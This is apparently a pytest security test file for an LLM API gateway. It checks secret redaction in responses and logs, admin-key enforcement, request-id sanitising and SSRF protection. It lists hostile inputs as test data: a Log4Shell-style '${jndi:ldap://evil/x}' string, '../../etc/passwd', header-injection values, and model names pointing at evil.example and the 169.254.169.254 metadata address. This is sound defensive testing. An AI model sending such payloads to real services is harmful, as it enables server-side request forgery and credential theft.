"""Security properties over real HTTP: no secret in any output, the admin key, request ids,
and a client that can never choose where (or with which credentials) the gateway connects.

CORS and upstream TLS have their own files (test_cors.py, test_upstream_tls.py).
"""

from __future__ import annotations

import asyncio
import io
import logging
import re
import uuid
from collections.abc import Iterator
from typing import Any

import aiohttp
import orjson
import pytest

from gateway.auth import hash_key
from gateway.context import upstream_request_id
from gateway.testing.fake_upstream import FakeUpstream, Script, json_script, openai_stream, sse
from gateway.testing.harness import RunningGateway, run_gateway
from tests.integration._support import (
    BOUND,
    CHAT,
    DONE,
    SANE_ID,
    RawClient,
    chat_body,
    closed_port,
    config_for,
    json_error,
)

UPSTREAM_KEY = "sk-proj-UpstreamSecret7f3a9c1e5b2d8f4a6c0e"
CLIENT_KEY = "sk-sluice-ClientSecret4b8d2f6a0c3e7b1d9f5a"
ADMIN_KEY = "adm-AdminSecret9e1c5a3f7b2d6e0a4c8f"
SECRETS = {"upstream": UPSTREAM_KEY, "client": CLIENT_KEY, "admin": ADMIN_KEY}


def forms(secret: str) -> list[str]:
    """The secret, without its prefixes, and without its prefixes and last four characters
    (what is left when only a masked `sk-...abcd` is allowed)."""
    body = secret.split("-")[-1]
    return [secret, secret.split("-", 1)[1], body, body[:-4]]


@pytest.fixture
def log_stream() -> Iterator[io.StringIO]:
    """Every log record of every logger, at DEBUG, with tracebacks, into one string."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))
    handler.setLevel(logging.DEBUG)
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield stream
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)


def _leak_config(fake: FakeUpstream, **server: Any) -> dict[str, Any]:
    config = config_for(
        fake,
        api_key=UPSTREAM_KEY,
        timeouts={"first_byte": 0.3},
        failure_threshold=100,  # the traffic fails on purpose, more often than the default 5
        plugins=[
            {
                "name": "access_log",
                "options": {"level": "debug", "log_prompts": True, "log_completions": True},
            },
            {"name": "token_count"},
        ],
        server={"admin_key": ADMIN_KEY, **server},
    )
    config["teams"] = {"web": {"keys": [{"name": "app", "sha256": hash_key(CLIENT_KEY)}]}}
    return config


def _echo(message: str, status: int) -> Script:
    return json_script({"error": {"message": message, "type": "invalid_request_error"}}, status)


class Transcript:
    """Everything the gateway sent back: status lines, headers and bodies."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    async def call(
        self,
        http: aiohttp.ClientSession,
        method: str,
        url: str,
        headers: dict[str, str] | None = None,
        json: Any = None,
    ) -> int:
        async with (
            asyncio.timeout(BOUND),
            http.request(method, url, headers=headers, json=json) as resp,
        ):
            body = await resp.read()
        self.parts.append(f"{resp.status} {resp.reason}")
        self.parts += [f"{name}: {value}" for name, value in resp.headers.items()]
        self.parts.append(body.decode("utf-8", "replace"))
        return resp.status

    @property
    def text(self) -> str:
        return "\n".join(self.parts)


async def _traffic(gw: RunningGateway, fake: FakeUpstream, http: aiohttp.ClientSession) -> str:
    """Successes and every kind of failure, each with a secret in play."""
    out = Transcript()
    good = {"Authorization": f"Bearer {CLIENT_KEY}"}
    chat = gw.v1 + CHAT
    # served, streamed and not
    fake.queue(Script(openai_stream(["fine"])))
    assert await out.call(http, "POST", chat, good, chat_body()) == 200
    fake.queue(json_script({"choices": [{"message": {"content": "ok"}}], "object": "x"}))
    assert await out.call(http, "POST", chat, good, chat_body(stream=False)) == 200
    # client keys: missing, wrong, real key mistyped, in x-api-key, in the wrong scheme
    assert await out.call(http, "POST", chat, {}, chat_body()) == 401
    wrong = {"Authorization": "Bearer sk-sluice-NotTheKey0000000000000000"}
    assert await out.call(http, "POST", chat, wrong, chat_body()) == 401
    typo = {"Authorization": f"Bearer {CLIENT_KEY}x"}
    assert await out.call(http, "POST", chat, typo, chat_body()) == 401
    assert await out.call(http, "POST", chat, {"X-Api-Key": CLIENT_KEY + "y"}, chat_body()) == 401
    basic = {"Authorization": f"Basic {CLIENT_KEY}"}
    assert await out.call(http, "POST", chat, basic, chat_body()) == 401
    # upstream errors that echo the upstream's key, whole or without its prefix
    for status in (400, 401, 403, 429, 500):
        for form in forms(UPSTREAM_KEY)[:3]:
            fake.queue(_echo(f"Incorrect API key provided: {form} (status {status}).", status))
            got = await out.call(http, "POST", chat, good, chat_body())
            assert got == (status if status in (400, 429) else 502)
    fake.queue(Script([sse({"error": {"message": f"bad key {UPSTREAM_KEY}", "code": 400}})]))
    assert await out.call(http, "POST", chat, good, chat_body()) == 400
    # a timeout, and an upstream that is not there
    fake.queue(Script(openai_stream(["late"]), release=asyncio.Event()))
    assert await out.call(http, "POST", chat, good, chat_body()) == 504
    # admin endpoints: no key, wrong keys, the client's key, then the right one
    admin = gw.url + "/admin/upstreams"
    for headers in (
        {},
        {"Authorization": "Bearer adm-wrong"},
        {"X-Admin-Key": ADMIN_KEY[:-1]},
        {"Authorization": f"Bearer {CLIENT_KEY}"},
    ):
        assert await out.call(http, "GET", admin, headers) == 401
    assert await out.call(http, "GET", admin, {"Authorization": f"Bearer {ADMIN_KEY}"}) == 200
    assert await out.call(http, "GET", admin, {"X-Admin-Key": ADMIN_KEY}) == 200
    # the metrics page after all that
    assert await out.call(http, "GET", gw.url + "/metrics") == 200
    assert "sluice_requests_total" in out.parts[-1] or "sluice_" in out.parts[-1]
    return out.text


async def test_no_secret_reaches_any_response_log_line_or_metric(
    fake: FakeUpstream,
    http: aiohttp.ClientSession,
    log_stream: io.StringIO,
    capfd: pytest.CaptureFixture[str],
) -> None:
    async with run_gateway(_leak_config(fake), env={}) as gw:
        responses = await _traffic(gw, fake, http)
    # The secrets were really in play: the upstream got its key, the client's was accepted.
    sent = {k.lower(): v for k, v in fake.exchanges[0].headers.items()}
    assert sent["authorization"] == f"Bearer {UPSTREAM_KEY}"
    captured = capfd.readouterr()
    outputs = {
        "responses": responses,
        "logs": log_stream.getvalue(),
        "stdout": captured.out,
        "stderr": captured.err,
    }
    assert '"event": "request"' in captured.out or '"event":"request"' in captured.out
    for where, text in outputs.items():
        for name, secret in SECRETS.items():
            for form in forms(secret):
                assert form not in text, f"the {name} key ({form!r}) leaked into {where}"
    # The one echo allowed: OpenAI's masked form of a wrong key the client itself sent.
    assert "sk-...0000" in responses
    assert re.search(r"sk-\.\.\.[A-Za-z0-9]{4}", responses)


async def test_secrets_in_an_upstream_error_are_redacted_not_dropped(
    fake: FakeUpstream, http: aiohttp.ClientSession
) -> None:
    """The rest of the upstream's message still reaches the client."""
    bare = forms(UPSTREAM_KEY)[2]
    fake.queue(_echo(f"Key {bare} cannot use model gpt-test.", 400))
    async with (
        run_gateway(config_for(fake, api_key=UPSTREAM_KEY)) as gw,
        asyncio.timeout(BOUND),
        http.post(gw.v1 + CHAT, json=chat_body()) as resp,
    ):
        error = json_error(await resp.read())
    assert resp.status == 400
    assert error["message"] == "Key [redacted] cannot use model gpt-test."


# ----- admin endpoints ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        pytest.param({}, 401, id="absent"),
        pytest.param({"Authorization": "Bearer not-it"}, 401, id="wrong-bearer"),
        pytest.param({"X-Admin-Key": "not-it"}, 401, id="wrong-x-admin-key"),
        pytest.param({"Authorization": f"Bearer {ADMIN_KEY}x"}, 401, id="longer"),
        pytest.param({"Authorization": f"Bearer {ADMIN_KEY[:-1]}"}, 401, id="shorter"),
        pytest.param({"Authorization": ADMIN_KEY}, 401, id="no-scheme"),
        pytest.param({"Authorization": f"Basic {ADMIN_KEY}"}, 401, id="basic-scheme"),
        pytest.param({"Authorization": f"Bearer {ADMIN_KEY}"}, 200, id="right-bearer"),
        pytest.param({"X-Admin-Key": ADMIN_KEY}, 200, id="right-x-admin-key"),
    ],
)
async def test_admin_endpoints_need_the_admin_key(
    fake: FakeUpstream, http: aiohttp.ClientSession, headers: dict[str, str], status: int
) -> None:
    config = config_for(fake, server={"admin_key": ADMIN_KEY})
    async with (
        run_gateway(config) as gw,
        asyncio.timeout(BOUND),
        http.get(gw.url + "/admin/upstreams", headers=headers) as resp,
    ):
        raw = await resp.read()
    assert resp.status == status
    if status == 401:
        assert json_error(raw)["code"] == "admin_key_required"
    else:
        assert b'"fake"' in raw
    assert ADMIN_KEY.encode() not in raw


@pytest.mark.parametrize("admin_key", [None, ""], ids=["unset", "empty"])
async def test_admin_endpoints_are_refused_without_a_configured_admin_key(
    fake: FakeUpstream, http: aiohttp.ClientSession, admin_key: str | None
) -> None:
    """`admin_key: ${SLUICE_ADMIN_KEY:-}` with the variable unset is empty: still refused,
    whatever the request sends (an empty key must not match an empty header)."""
    server = {} if admin_key is None else {"admin_key": admin_key}
    async with run_gateway(config_for(fake, server=server)) as gw:
        for headers in (
            {},
            {"Authorization": "Bearer "},
            {"X-Admin-Key": ""},
            {"X-Admin-Key": "x"},
        ):
            async with (
                asyncio.timeout(BOUND),
                http.get(gw.url + "/admin/upstreams", headers=headers) as resp,
            ):
                raw = await resp.read()
            assert resp.status == 401, headers
            assert json_error(raw)["code"] == "admin_key_required"


# ----- request ids -----------------------------------------------------------------------------

# CR, LF and NUL inside a header never get this far: aiohttp's parser refuses the request
# (test_bad_input.py::test_oversized_or_malformed_headers_get_a_clean_400).
HOSTILE_IDS = [
    pytest.param(b"abc\tX-Injected: yes", id="tab"),
    pytest.param(b"x" * 5000, id="very-long"),
    pytest.param("naïve-日本".encode(), id="non-ascii-utf8"),
    pytest.param(b"\xff\xfe\xfd", id="invalid-utf8"),
    pytest.param(b"a\"b'c", id="quotes"),
    pytest.param(b"a b", id="space"),
    pytest.param(b"../../etc/passwd", id="path"),
    pytest.param(b'"}, "level": "critical', id="json-breaker"),
    pytest.param(b"${jndi:ldap://evil/x}", id="template"),
]


async def test_hostile_request_ids_never_reach_a_header_or_a_log_raw(
    fake: FakeUpstream, log_stream: io.StringIO, capfd: pytest.CaptureFixture[str]
) -> None:
    config = config_for(fake, plugins=[{"name": "access_log", "options": {"level": "debug"}}])
    replies: list[tuple[bytes, int, dict[str, str]]] = []
    async with run_gateway(config) as gw:
        for param in HOSTILE_IDS:
            (hostile,) = param.values
            assert isinstance(hostile, bytes)
            client = await RawClient.connect(gw.url)
            try:
                async with asyncio.timeout(BOUND):
                    body = chat_body()
                    head = b"X-Request-Id: " + hostile
                    lines = [("Content-Type", "application/json")]
                    client.writer.write(
                        b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                        + b"".join(f"{k}: {v}\r\n".encode() for k, v in lines)
                        + head
                        + b"\r\n"
                        + f"Content-Length: {len(orjson.dumps(body))}\r\n\r\n".encode()
                        + orjson.dumps(body)
                    )
                    answer = await client.read_head()
                    if answer.status == 200:
                        await client.read_body(answer)
            finally:
                await client.close()
            replies.append((hostile, answer.status, answer.headers))
    for hostile, status, headers in replies:
        assert status == 200, hostile
        assert SANE_ID.fullmatch(headers["x-request-id"]), headers["x-request-id"]
        assert "x-injected" not in headers
    sent_ids = [
        value
        for exchange in fake.exchanges
        for name, value in exchange.headers.items()
        if name.lower() == "x-request-id"
    ]
    assert len(sent_ids) == len(HOSTILE_IDS)
    assert sent_ids == [upstream_request_id(headers["x-request-id"]) for _, _, headers in replies]
    assert all(str(uuid.UUID(rid)) == rid for rid in sent_ids)
    logged = log_stream.getvalue() + capfd.readouterr().out
    for hostile, _, _ in replies:
        text = hostile.decode("utf-8", "replace")
        if len(text) > 3:
            assert text not in logged


# ----- no SSRF: the client never picks the destination or the credentials --------------------


def _prefix_config(fake: FakeUpstream) -> dict[str, Any]:
    config = config_for(fake, api_key=UPSTREAM_KEY)
    config["routes"].append({"model_prefix": "p/", "upstream": "fake", "retries": 0})
    return config


HOSTILE_MODELS = [
    "p/http://evil.example/v1",
    "p/https://169.254.169.254/latest/meta-data/",
    "p/../../admin/upstreams",
    "p/@evil.example",
    "p/m@evil.example:80",
    "p//evil.example/x",
    "p/%2e%2e%2fadmin",
    "p/m?x=1#frag",
    "p/\r\nHost: evil",
]


@pytest.mark.parametrize("model", HOSTILE_MODELS)
async def test_a_model_name_never_changes_where_the_gateway_connects(
    fake: FakeUpstream, http: aiohttp.ClientSession, model: str
) -> None:
    async with (
        run_gateway(_prefix_config(fake)) as gw,
        asyncio.timeout(BOUND),
        http.post(gw.v1 + CHAT, json=chat_body(model=model)) as resp,
    ):
        raw = await resp.read()
    assert resp.status == 200, raw[:300]
    assert raw.endswith(DONE)
    (exchange,) = fake.exchanges  # it went to the configured upstream, nowhere else
    assert exchange.path == "/v1/chat/completions"
    assert exchange.body["model"] == model.removeprefix("p/")  # only ever in the body
    assert exchange.headers["Host"] == f"127.0.0.1:{fake.port}"
    assert exchange.headers["Authorization"] == f"Bearer {UPSTREAM_KEY}"


async def test_unrouted_hostile_model_is_a_404_and_connects_nowhere(
    fake: FakeUpstream, http: aiohttp.ClientSession
) -> None:
    async with (
        run_gateway(config_for(fake)) as gw,
        asyncio.timeout(BOUND),
        http.post(gw.v1 + CHAT, json=chat_body(model="http://127.0.0.1:1/v1")) as resp,
    ):
        raw = await resp.read()
    assert resp.status == 404
    assert json_error(raw)["code"] == "model_not_found"
    assert fake.exchanges == []


async def test_client_headers_never_change_destination_or_credentials(
    fake: FakeUpstream, http: aiohttp.ClientSession
) -> None:
    elsewhere = f"127.0.0.1:{closed_port()}"
    hostile = {
        "Host": elsewhere,
        "X-Forwarded-Host": elsewhere,
        "X-Forwarded-For": "10.0.0.1",
        "X-Forwarded-Proto": "http",
        "Forwarded": f"host={elsewhere};for=10.0.0.1",
        "X-Real-IP": "10.0.0.1",
        "X-Upstream-Url": f"http://{elsewhere}/v1",
        "X-Base-Url": f"http://{elsewhere}/v1",
        "X-Original-URL": "/admin/upstreams",
        "X-Rewrite-URL": "/admin/upstreams",
        "Authorization": "Bearer sk-client-picked-000000000000",
        "X-Api-Key": "sk-client-picked-000000000000",
        "Api-Key": "sk-client-picked-000000000000",
        "Proxy-Authorization": "Basic Y2xpZW50OnBpY2tlZA==",
    }
    async with (
        run_gateway(config_for(fake, api_key=UPSTREAM_KEY)) as gw,
        asyncio.timeout(BOUND),
        http.post(gw.v1 + CHAT, json=chat_body(), headers=hostile) as resp,
    ):
        raw = await resp.read()
    assert resp.status == 200
    assert raw.endswith(DONE)
    (exchange,) = fake.exchanges
    seen = {k.lower(): v for k, v in exchange.headers.items()}
    assert exchange.path == "/v1/chat/completions"
    assert seen["host"] == f"127.0.0.1:{fake.port}"
    assert seen["authorization"] == f"Bearer {UPSTREAM_KEY}"
    for name in ("x-api-key", "api-key", "proxy-authorization", "forwarded", "x-real-ip"):
        assert name not in seen
    assert not [name for name in seen if name.startswith("x-forwarded-")]
    assert "client-picked" not in str(exchange.headers)


async def test_operator_headers_win_over_the_clients(
    fake: FakeUpstream, http: aiohttp.ClientSession
) -> None:
    """Pin billing headers such as OpenAI-Organization in the upstream's `headers`: a client
    sending its own cannot pick another organization for the gateway's key."""
    config = config_for(fake, headers={"OpenAI-Organization": "org-operator"})
    async with (
        run_gateway(config) as gw,
        asyncio.timeout(BOUND),
        http.post(
            gw.v1 + CHAT, json=chat_body(), headers={"OpenAI-Organization": "org-client"}
        ) as resp,
    ):
        await resp.read()
    (exchange,) = fake.exchanges
    assert exchange.headers["OpenAI-Organization"] == "org-operator"


async def test_anthropic_upstream_credentials_are_the_gateways(
    fake: FakeUpstream, http: aiohttp.ClientSession
) -> None:
    """The same for the Anthropic kind, whose key travels in x-api-key."""
    config = {
        "upstreams": {
            "claude": {
                "kind": "anthropic",
                "base_url": fake.base_url.removesuffix("/v1"),
                "api_key": UPSTREAM_KEY,
            }
        },
        "routes": [{"model": "c", "upstream": "claude", "retries": 0}],
    }
    async with (
        run_gateway(config) as gw,
        asyncio.timeout(BOUND),
        http.post(
            gw.v1 + CHAT,
            json=chat_body(model="c", stream=False),
            headers={"X-Api-Key": "sk-client-picked-000000000000", "Anthropic-Version": "1999"},
        ) as resp,
    ):
        await resp.read()
    (exchange,) = fake.exchanges
    seen = {k.lower(): v for k, v in exchange.headers.items()}
    assert exchange.path == "/v1/messages"
    assert seen["x-api-key"] == UPSTREAM_KEY
    assert seen["anthropic-version"] == "2023-06-01"


@pytest.mark.parametrize("stream", [True, False])
async def test_connect_errors_do_not_reveal_the_upstream_address(
    http: aiohttp.ClientSession, stream: bool
) -> None:
    port = closed_port()
    config = {
        "upstreams": {"internal": {"kind": "openai", "base_url": f"http://127.0.0.1:{port}/v1"}},
        "routes": [{"model": "m", "upstream": "internal", "retries": 0}],
    }
    async with (
        run_gateway(config) as gw,
        asyncio.timeout(BOUND),
        http.post(gw.v1 + CHAT, json=chat_body(stream=stream)) as resp,
    ):
        raw = await resp.read()
    assert resp.status == 502
    error = json_error(raw)
    assert error["code"] == "upstream_connect_error"
    assert error["message"] == "Could not connect to upstream 'internal': connection refused."
    assert str(port).encode() not in raw
    assert b"127.0.0.1" not in raw


async def test_a_malformed_request_head_is_logged_without_its_bytes(
    fake: FakeUpstream, log_stream: io.StringIO
) -> None:
    """aiohttp quotes the offending header line in its exception; the log must not."""
    async with run_gateway(config_for(fake)) as gw:
        client = await RawClient.connect(gw.url)
        try:
            padding = "A" * 9000  # past aiohttp's 8190-byte line limit
            client.writer.write(
                f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
                f"Authorization: Bearer {CLIENT_KEY}{padding}\r\n\r\n".encode()
            )
            async with asyncio.timeout(BOUND):
                status_line = await client.reader.readline()
        finally:
            await client.close()
    assert status_line.split()[1] == b"400"  # aiohttp's own answer, before any handler
    logged = log_stream.getvalue()
    assert "refused a malformed request head from 127.0.0.1 (LineTooLong, status 400)" in logged
    for form in forms(CLIENT_KEY):
        assert form not in logged
    assert "Traceback" not in logged
